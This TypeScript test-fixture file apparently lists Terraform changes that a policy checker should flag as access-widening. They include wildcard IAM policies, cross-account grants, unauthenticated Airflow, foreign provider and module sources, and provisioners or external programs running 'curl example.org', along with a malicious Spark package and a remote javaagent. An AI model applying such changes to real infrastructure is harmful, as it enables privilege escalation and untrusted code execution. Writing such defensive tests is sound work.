import type { Case } from "../case";
import { adding, editing, inJson, ofStack, type Place, setting } from "../edits";

const operator: Place = ["prod-people", "aws_iam_role.people_operator"];
const facts: Place = ["prod-processing", "aws_secretsmanager_secret_version.facts"];
const airflow: Place = ["prod-orchestration", "aws_mwaa_environment.airflow"];
const everything = { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] };

/** Changes by which somebody, or somebody's code, gets access by another route than a policy of the platform's. */
export const identities: readonly Case[] = [
  setting("a role gets another permissions boundary", operator, {
    permissions_boundary: "arn:aws:iam::222222222222:policy/wide",
  }),
  setting("a role gets AWS's policy of everything in its own block", operator, {
    managed_policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
  }),
  setting("a role gets an inline policy of everything", operator, {
    inline_policy: [{ name: "all", policy: JSON.stringify(everything) }],
  }),
  adding("a new role brings its own policy", ["prod-people", "aws_iam_role.other"], {
    name: "other",
    assume_role_policy: JSON.stringify({ Version: "2012-10-17", Statement: [] }),
    inline_policy: { name: "all", policy: JSON.stringify(everything) },
  }),
  adding("a user gets a policy of its own", ["prod-people", "aws_iam_user_policy.ada"], {
    name: "all",
    user: "ada",
    policy: JSON.stringify(everything),
  }),
  adding("a grant lets another account use the key", ["prod-lake", "aws_kms_grant.theirs"], {
    key_id: "key",
    grantee_principal: "arn:aws:iam::999999999999:root",
    operations: ["Decrypt"],
  }),
  setting(
    "people stay connected when their session ends",
    ["prod-access", "aws_ec2_client_vpn_endpoint.vpn"],
    {
      disconnect_on_session_timeout: false,
    },
  ),
  setting("an endpoint service takes in whoever asks", ["prod-network", "aws_vpc_endpoint.endpoints_sqs"], {
    auto_accept: true,
  }),
  setting("Airflow runs a script when it starts", airflow, { startup_script_s3_path: "startup.sh" }),
  setting("Airflow takes its DAGs from another folder", airflow, { dag_s3_path: "other" }),
  editing("Airflow answers without a password", airflow, (block) => {
    block.airflow_configuration_options["api.auth_backends"] = "airflow.api.auth.backend.default";
  }),
  setting(
    "serverless jobs run an image of somebody else's",
    ["dev-processing", "aws_emrserverless_application.emr_serverless"],
    {
      image_configuration: { image_uri: "999999999999.dkr.ecr.eu-north-1.amazonaws.com/theirs:1" },
    },
  ),
  setting(
    "serverless jobs take interactive sessions",
    ["dev-processing", "aws_emrserverless_application.emr_serverless"],
    {
      interactive_configuration: { livy_endpoint_enabled: true },
    },
  ),
  inJson("Spark downloads a package", facts, "secret_string", (value) => {
    value.spark_conf = { "spark.jars.packages": "org.evil:code:1" };
  }),
  inJson("Spark's processes are started with other options", facts, "secret_string", (value) => {
    value.spark_conf = { "spark.driver.extraJavaOptions": "-javaagent:s3://theirs/agent.jar" };
  }),
  inJson(
    "clusters are in another security group",
    ["prod-network", "aws_secretsmanager_secret_version.facts"],
    "secret_string",
    (value) => {
      value.emr_core_security_group_id = "sg-1";
    },
  ),
  setting(
    "tables give the catalog's defaults to everybody",
    ["prod-catalog", "aws_glue_catalog_database.marts"],
    {
      create_table_default_permission: [
        { permissions: ["ALL"], principal: [{ data_lake_principal_identifier: "IAM_ALLOWED_PRINCIPALS" }] },
      ],
    },
  ),
  ofStack(
    "the certificate of the VPN is another",
    ["prod-access", "data.aws_acm_certificate.vpn_server"],
    (json) => {
      json.data.aws_acm_certificate.vpn_server.domain = "other.example.org";
    },
  ),
  ofStack("the provider is somebody else's", ["prod-lake", "terraform.required_providers"], (json) => {
    json.terraform.required_providers.aws.source = "evil/aws";
  }),
  ofStack("the provider acts as another role", ["prod-lake", "provider.aws"], (json) => {
    json.provider.aws[0].assume_role = [{ role_arn: "arn:aws:iam::222222222222:role/admin" }];
  }),
  ofStack("a module comes from elsewhere", ["prod-lake", "module.extra"], (json) => {
    json.module = { extra: { source: "git::https://example.org/module.git" } };
  }),
  ofStack("a program runs where Terraform does", ["prod-lake", "data.external.run"], (json) => {
    json.data = { ...json.data, external: { run: { program: ["sh", "-c", "curl example.org"] } } };
  }),
  ofStack(
    "a program runs when something is destroyed",
    ["prod-lake", "removed.aws_s3_bucket.old"],
    (json) => {
      json.removed = [
        { from: "aws_s3_bucket.old", provisioner: [{ "local-exec": { command: "curl example.org" } }] },
      ];
    },
  ),
  setting("Airflow installs what another list names", airflow, {
    requirements_s3_path: "other/requirements.txt",
  }),
  setting("a provisioner runs a program", ["prod-lake", "aws_s3_bucket.data"], {
    provisioner: [{ "local-exec": { command: "curl example.org" } }],
  }),
];
